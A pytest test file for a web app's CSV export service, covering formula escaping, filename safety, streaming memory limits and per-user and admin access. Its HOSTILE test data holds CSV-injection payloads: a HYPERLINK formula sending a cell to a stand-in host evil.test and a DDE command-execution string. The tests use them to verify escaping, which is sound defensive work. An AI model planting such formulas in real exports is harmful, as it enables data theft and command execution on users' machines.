"""CSV exports (webapp/services/csv_export.py): the user's requests and usage, the admin's filtered logs and
analytics. Content equals the JSON, hostile cells cannot run as formulas, the stream holds one batch in memory (a
200,000-row export), a user's export holds only their rows, admin exports are admins' only, and a personal API key
exports its owner's own usage."""

from __future__ import annotations

import csv
import gc
import io
import os
import uuid
from datetime import UTC, date, datetime, timedelta
from typing import Any

import psycopg
import pytest
from flask import Flask
from flask.testing import FlaskClient

from tests.api.test_settings_page import sign_in
from tests.support.admin import insert_log, web_sign_in
from webapp.services import csv_export, date_ranges, user_requests

HOSTILE = ['=HYPERLINK("http://evil.test/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
           "\tTAB", "\rCR", 'comma, "quote"\nnewline', "plain"]


def rows_of(resp: Any) -> list[list[str]]:
    assert resp.status_code == 200, resp.get_data(as_text=True)[:500]
    assert resp.headers["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(resp.get_data(as_text=True), newline="")))


def text(value: Any) -> str:
    """A JSON value as the CSV writes it."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, list):
        return " > ".join(value)
    return str(value)


def _at(d: date, hour: int = 12) -> datetime:
    return datetime(d.year, d.month, d.day, hour, tzinfo=UTC)


def _log(conn: psycopg.Connection, user_id: str, when: datetime, *, model: str = "gpt-4o-mini",
         task: str | None = None, error_code: str | None = None, status: int = 200) -> str:
    request_id = str(uuid.uuid4())
    conn.execute("""insert into public.llm_request_logs (request_id, user_id, mode, provider, model, task, tokens_in,
                        tokens_out, cached_tokens, cache_write_tokens, reasoning_tokens, usage_source, credits,
                        multiplier, status, error_code, latency_ms, created_at, fallback_path)
                    values (%s, %s, 'member', 'openai', %s, %s, 11, 22, 5, 2, 3, 'measured', 1500, 1.0, %s, %s, 7,
                            %s, array['openai:ok'])""",
                 [request_id, user_id, model, task, status, error_code, when])
    return request_id


# -- the cell rules -----------------------------------------------------------------------------------------------

def test_cells_that_would_run_as_formulas_are_prefixed() -> None:
    assert [csv_export.cell(v) for v in HOSTILE] == ["'" + v for v in HOSTILE[:6]] + HOSTILE[6:]
    assert csv_export.cell(-5) == -5 and csv_export.cell(None) == "" and csv_export.cell(True) == "true"
    assert csv_export.cell(["a:ok", "b:error"]) == "a:ok > b:error" and csv_export.cell(["=x"]) == "'=x"
    out = b"".join(csv_export.encode(iter([["h"], ['a,"b"\nc']]))).decode()
    assert out == 'h\r\n"a,""b""\nc"\r\n'


def test_filenames_are_safe() -> None:
    r = date_ranges.parse({"range": "custom", "from": "2026-01-01", "to": "2026-01-31"})
    assert csv_export.filename("requests", r) == "switchboard-requests-2026-01-01-to-2026-01-31.csv"
    assert csv_export.filename('../"evil"\r\nX: y') == "switchboard-evil-x-y.csv"


def test_the_stream_closes_its_generator_when_the_server_is_done() -> None:
    state = {"closed": False}

    def rows() -> Any:
        try:
            yield ["header"]
            for i in range(10**9):
                yield [str(i) * 100]
        finally:
            state["closed"] = True

    stream = csv_export.Stream(csv_export.encode(rows()))
    assert next(stream).startswith(b"header\r\n") and not state["closed"]
    stream.close()
    assert state["closed"]


@pytest.mark.parametrize("value", ["xml", "CSV", " csv", "csv\x00", "json,csv"])
def test_unknown_formats_are_refused(client: FlaskClient, make_user: Any, value: str) -> None:
    resp = client.get("/api/user/llm/requests", query_string={"format": value}, headers=make_user().headers)
    assert resp.status_code == 422 and resp.get_json()["error"]["fields"] == {"format": "json or csv."}


# -- content equals the JSON --------------------------------------------------------------------------------------

def test_user_requests_csv_equals_the_json_with_hostile_values_escaped(
        client: FlaskClient, make_user: Any, admin_conn: psycopg.Connection) -> None:
    user, other = make_user(), make_user()
    day = date_ranges.today_utc() - timedelta(days=3)
    for i, value in enumerate(HOSTILE):
        _log(admin_conn, user.id, _at(day, 8) + timedelta(minutes=i), model=value, task=value,
             error_code=value, status=502)
    theirs = _log(admin_conn, other.id, _at(day, 9))
    q = {"range": "7d", "limit": "200"}
    body = client.get("/api/user/llm/requests", query_string=q, headers=user.headers).get_json()
    resp = client.get("/api/user/llm/requests", query_string={**q, "format": "csv"}, headers=user.headers)
    got = rows_of(resp)
    header, data = got[0], got[1:]
    assert header == list(user_requests.COLUMNS) and set(header) == set(body["requests"][0])
    assert len(data) == len(HOSTILE) == len(body["requests"])
    for row, item in zip(data, body["requests"], strict=True):
        expected = [("'" + text(item[k]) if isinstance(item[k], str) and item[k].startswith(csv_export.FORMULA_START)
                     else text(item[k])) for k in header]
        assert row == expected
    assert {(r[header.index("cached_tokens")], r[header.index("cache_write_tokens")],
             r[header.index("reasoning_tokens")]) for r in data} == {("5", "2", "3")}
    by_model = {row[header.index("model")] for row in data}
    assert by_model == {("'" + v if v[0] in "=+-@\t\r" else v) for v in HOSTILE}
    assert theirs not in resp.get_data(as_text=True)
    disposition = resp.headers["Content-Disposition"]
    start = (date_ranges.today_utc() - timedelta(days=6)).isoformat()
    assert disposition == f'attachment; filename="switchboard-requests-{start}-to-{date_ranges.today_utc()}.csv"'
    assert resp.headers["Cache-Control"] == "no-store"


def test_user_usage_csv_equals_the_json_buckets(client: FlaskClient, make_user: Any,
                                                admin_conn: psycopg.Connection) -> None:
    user = make_user()
    today = date_ranges.today_utc()
    insert_log(admin_conn, user.id, "openai", created_at=_at(today - timedelta(days=1)), model="=1+1")
    insert_log(admin_conn, user.id, "groq", created_at=_at(today - timedelta(days=2)))
    q = {"range": "30d", "group_by": "day,model"}
    body = client.get("/api/user/llm/usage", query_string=q, headers=user.headers).get_json()
    got = rows_of(client.get("/api/user/llm/usage", query_string={**q, "format": "csv"}, headers=user.headers))
    assert got[0] == ["day", "model", "requests", "tokens_in", "tokens_out", "credits", "credits_micro", "errors",
                      "cached_tokens", "cache_write_tokens", "reasoning_tokens"]
    assert got[1:] == [[("'" + text(b[k]) if k == "model" and str(b[k]).startswith("=") else text(b[k]))
                        for k in got[0]] for b in body["buckets"]]
    assert [r[1] for r in got[1:] if r[1].startswith("'")] == ["'=1+1"]


def test_admin_logs_and_analytics_csv_equal_the_json(client: FlaskClient, make_user: Any,
                                                      admin_conn: psycopg.Connection) -> None:
    admin, member = make_user(admin=True), make_user()
    day = date(2001, 1, 1) + timedelta(days=uuid.uuid4().int % 8000)
    for i, value in enumerate(HOSTILE[:4]):
        _log(admin_conn, member.id, _at(day, 6) + timedelta(minutes=i), model=value, task=value, status=500,
             error_code=value)
    q = {"from": day.isoformat(), "to": day.isoformat(), "user": member.id}
    body = client.get("/api/admin/logs", query_string=q, headers=admin.headers).get_json()
    got = rows_of(client.get("/api/admin/logs", query_string={**q, "format": "csv", "per_page": "1"},
                             headers=admin.headers))
    from webapp.services.usage_export import LOG_COLUMNS, log_row

    assert got[0] == list(LOG_COLUMNS) and len(got) == 1 + 4, "every matching row, paging ignored"
    for row, item in zip(got[1:], body["logs"], strict=True):
        flat = log_row(item)
        assert row == [csv_export.cell(flat[k]) if isinstance(flat[k], str) else text(flat[k]) for k in LOG_COLUMNS]
    assert {r[LOG_COLUMNS.index("task")] for r in got[1:]} == {"'" + v for v in HOSTILE[:4]}
    analytics = client.get("/api/admin/usage", query_string={**q, "user": ""}, headers=admin.headers).get_json()
    got = rows_of(client.get("/api/admin/usage", query_string={"from": day.isoformat(), "to": day.isoformat(),
                                                               "format": "csv"}, headers=admin.headers))
    assert got == [["day", "requests", "tokens", "credits", "credits_micro", "errors"],
                   *[[text(d[k]) for k in got[0]] for d in analytics["days"]]]
    assert got[1][1] == "4"


def test_bad_filters_on_a_csv_export_are_a_json_422(client: FlaskClient, make_user: Any) -> None:
    admin = make_user(admin=True)
    resp = client.get("/api/admin/logs?format=csv&status=teapot", headers=admin.headers)
    assert resp.status_code == 422 and "status" in resp.get_json()["error"]["fields"]
    resp = client.get("/api/user/llm/requests?format=csv&range=custom&from=2026-02-02&to=2026-02-01",
                      headers=make_user().headers)
    assert resp.status_code == 422 and resp.headers["Content-Type"].startswith("application/json")


# -- who may export what ------------------------------------------------------------------------------------------

def test_admin_exports_are_for_admins_only(app: Flask, client: FlaskClient, make_user: Any) -> None:
    member = make_user()
    for path in ("/api/admin/logs?format=csv", "/api/admin/usage?format=csv"):
        resp = client.get(path, headers=member.headers)
        assert resp.status_code == 403 and resp.get_json()["error"]["code"] == "admin_required"
        assert client.get(path).status_code == 401
    page = sign_in(app, member)
    for path in ("/admin/logs.csv", "/admin/analytics.csv"):
        assert page.get(path).status_code == 403
        assert app.test_client().get(path).status_code == 302  # anonymous: to sign-in


def test_a_personal_api_key_exports_its_owners_own_usage_only(client: FlaskClient, make_user: Any,
                                                             admin_conn: psycopg.Connection) -> None:
    owner, other = make_user(), make_user()
    key = client.post("/api/user/api-keys", json={"name": "export"}, headers=owner.headers).get_json()
    key_headers = {"Authorization": f"Bearer {key['secret']}"}
    day = date_ranges.today_utc() - timedelta(days=1)
    mine = _log(admin_conn, owner.id, _at(day))
    theirs = _log(admin_conn, other.id, _at(day))
    got = rows_of(client.get("/api/user/llm/requests?format=csv&range=7d", headers=key_headers))
    assert [r[0] for r in got[1:]] == [mine] and theirs not in str(got)
    usage = rows_of(client.get("/api/user/llm/usage?format=csv&range=7d", headers=key_headers))
    assert sum(int(r[usage[0].index("requests")]) for r in usage[1:]) == 1
    admin_key = client.post("/api/user/api-keys", json={"name": "x"}, headers=make_user(admin=True).headers)
    admin_headers = {"Authorization": f"Bearer {admin_key.get_json()['secret']}"}
    assert client.get("/api/admin/logs?format=csv", headers=admin_headers).status_code == 403


def test_page_downloads_for_the_signed_in_user(app: Flask, make_user: Any, admin_conn: psycopg.Connection) -> None:
    me, other = sign_in(app, make_user()), make_user()
    day = date_ranges.today_utc() - timedelta(days=2)
    mine = _log(admin_conn, me.user.id, _at(day), model="@evil")
    theirs = _log(admin_conn, other.id, _at(day))
    got = rows_of(me.get("/settings/requests.csv?range=7d"))
    assert [r[0] for r in got[1:]] == [mine] and theirs not in str(got) and got[1][4] == "'@evil"
    page_html = me.get("/settings/requests?range=7d").get_data(as_text=True)
    assert "5 cached 2 cache write 3 reasoning" in page_html and "@evil" in page_html
    usage = rows_of(me.get("/settings/usage.csv?range=7d"))
    assert usage[0][:2] == ["day", "provider"] and len(usage) == 2
    assert me.get("/settings/requests.csv?range=nope").status_code == 422
    admin = make_user(admin=True)
    client = app.test_client()
    web_sign_in(client, admin)
    got = rows_of(client.get("/admin/logs.csv", query_string={"user": me.user.id}))
    assert [r[0] for r in got[1:]] == [mine]
    got = rows_of(client.get("/admin/analytics.csv?range=7d"))
    assert len(got) == 1 + 7
    assert client.get("/admin/logs.csv?mode=sideways").status_code == 422
    page = client.get(f"/admin/logs?mode=member&user={me.user.id}").get_data(as_text=True)
    assert f'id="logs-csv" href="/admin/logs.csv?user={me.user.id}&amp;mode=member"' in page


# -- memory: 200,000 rows stream through one batch at a time -------------------------------------------------------

ROWS = 200_000


@pytest.fixture()
def bulk_user(make_user: Any, admin_conn: psycopg.Connection) -> Any:
    """A user with ROWS request-log rows on one day (inserted in one statement; the rollup trigger is skipped for
    the insert and the delete alike, so the rollups never see them)."""
    user = make_user()
    day = date_ranges.today_utc() - timedelta(days=100)
    admin_conn.execute("set session_replication_role = replica")
    try:
        admin_conn.execute(
            """insert into public.llm_request_logs (request_id, user_id, mode, provider, model, task, tokens_in,
                   tokens_out, usage_source, credits, status, error_code, latency_ms, created_at)
               select gen_random_uuid(), %s, 'member', 'openai', 'gpt-4o-mini-2024-07-18', 'summarise-ticket',
                      1000 + mod(i, 500), 200 + mod(i, 50), 'measured', 1234567,
                      case when mod(i, 10) = 0 then 502 else 200 end,
                      case when mod(i, 10) = 0 then 'upstream_error' end, 120 + mod(i, 900),
                      %s::timestamptz + i * interval '100 milliseconds'
               from generate_series(1, %s) i""", [user.id, _at(day, 0), ROWS])
        yield user, day
    finally:
        admin_conn.execute("delete from public.llm_request_logs where user_id = %s", [user.id])
        admin_conn.execute("set session_replication_role = origin")


def _rss() -> int:
    """This process's resident memory now (Linux), in bytes."""
    with open("/proc/self/statm") as f:
        return int(f.read().split()[1]) * os.sysconf("SC_PAGE_SIZE")


def _stream(client: FlaskClient, path: str, query: dict[str, str], headers: dict[str, str]) -> tuple[int, int, int]:
    """(bytes, lines, resident memory growth) of one export read chunk by chunk and dropped."""
    gc.collect()
    base = peak = _rss()
    resp = client.get(path, query_string=query, headers=headers, buffered=False)
    assert resp.status_code == 200 and resp.is_streamed
    size = lines = 0
    for chunk in resp.response:
        size += len(chunk)
        lines += chunk.count(b"\r\n")
        peak = max(peak, _rss())
    resp.close()
    return size, lines, peak - base


def test_200k_row_exports_stream_in_bounded_memory(client: FlaskClient, make_user: Any, bulk_user: Any) -> None:
    """The user's requests and the admin's logs of those 200,000 rows. ~170 bytes of CSV a row (over 30 MB in all)
    and ~1 KB of Python objects a row had the rows been fetched at once: a buffered export grows this process by 40
    to 200 MB (184 MB measured with list() around the cursor); the stream holds one 2,000-row batch and one 64 KB
    chunk at a time."""
    user, day = bulk_user
    dates = {"from": day.isoformat(), "to": day.isoformat(), "format": "csv"}
    size, lines, growth = _stream(client, "/api/user/llm/requests", {"range": "custom", **dates}, user.headers)
    assert lines == ROWS + 1 and size > 30_000_000
    assert growth < 25_000_000, f"resident memory grew {growth:,} bytes while streaming {size:,}"
    admin = make_user(admin=True)
    size, lines, growth = _stream(client, "/api/admin/logs", {"user": user.id, **dates}, admin.headers)
    assert lines == ROWS + 1 and size > 30_000_000
    assert growth < 25_000_000, f"resident memory grew {growth:,} bytes while streaming {size:,}"


def test_a_download_stopped_halfway_ends_its_transaction(client: FlaskClient, make_user: Any,
                                                          admin_conn: psycopg.Connection) -> None:
    """The client goes away after the first chunk: closing the response closes the cursor and the transaction, and
    the connection goes back to the pool (no session left idle in a transaction)."""
    user = make_user()
    day = date_ranges.today_utc() - timedelta(days=1)
    admin_conn.execute("set session_replication_role = replica")
    try:
        admin_conn.execute("""insert into public.llm_request_logs (request_id, user_id, mode, status, created_at)
                              select gen_random_uuid(), %s, 'member', 200, %s::timestamptz + i * interval '1 s'
                              from generate_series(1, 5000) i""", [user.id, _at(day, 1)])

        def open_exports() -> int:
            row = admin_conn.execute("""select count(*) from pg_stat_activity
                                        where query like '%%user_requests_export%%' and state = 'idle in transaction'
                                          and pid <> pg_backend_pid()""").fetchone()
            return int(row[0]) if row else 0

        resp = client.get("/api/user/llm/requests?format=csv&range=7d", headers=user.headers, buffered=False)
        first = next(iter(resp.response))
        assert first.startswith(b"request_id,") and open_exports() == 1, "the cursor is open while streaming"
        resp.close()
        assert open_exports() == 0
    finally:
        admin_conn.execute("delete from public.llm_request_logs where user_id = %s", [user.id])
        admin_conn.execute("set session_replication_role = origin")


def test_a_team_owners_export_holds_their_own_requests_not_the_teams(client: FlaskClient, make_user: Any,
                                                                      admin_conn: psycopg.Connection,
                                                                      db: Any) -> None:
    """Row-level security lets a team's owner read the requests billed to the team; "my requests" are still only
    the owner's own."""
    from tests.api.test_teams_api import new_team

    owner, member = make_user(), make_user()
    slug = new_team(client, owner, member)
    team_row = admin_conn.execute("select id::text from public.teams where slug = %s", [slug]).fetchone()
    assert team_row is not None
    day = date_ranges.today_utc() - timedelta(days=1)
    mine = _log(admin_conn, owner.id, _at(day, 8))
    theirs = _log(admin_conn, member.id, _at(day, 9))
    admin_conn.execute("update public.llm_request_logs set team_id = %s where request_id = any(%s::uuid[])",
                       [team_row[0], [mine, theirs]])
    with db.as_user(owner.claims) as conn:
        seen = conn.execute("select count(*) from public.llm_request_logs where request_id = %s", [theirs]).fetchone()
    assert seen is not None and seen[0] == 1, "the owner may read the member's team request under RLS"
    got = rows_of(client.get("/api/user/llm/requests?format=csv&range=7d", headers=owner.headers))
    assert [r[0] for r in got[1:]] == [mine]
    body = client.get("/api/user/llm/requests?range=7d", headers=owner.headers).get_json()
    assert [r["request_id"] for r in body["requests"]] == [mine]
